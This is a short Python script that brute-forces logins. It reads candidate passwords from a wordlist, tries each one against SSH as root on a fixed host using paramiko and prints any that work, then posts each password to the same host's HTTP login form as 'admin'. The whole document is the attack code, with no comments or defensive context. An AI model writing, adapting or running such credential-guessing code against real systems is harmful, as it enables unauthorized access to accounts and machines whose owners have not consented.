import paramiko
import requests

with open("words.txt") as words:
    for word in words:
        client = paramiko.SSHClient()
        try:
            client.connect("192.0.2.7", username="root", password=word.strip())
        except paramiko.AuthenticationException:
            continue
        print(word)

for word in open("words.txt"):
    requests.post("http://192.0.2.7/login", data={"username": "admin", "password": word.strip()})
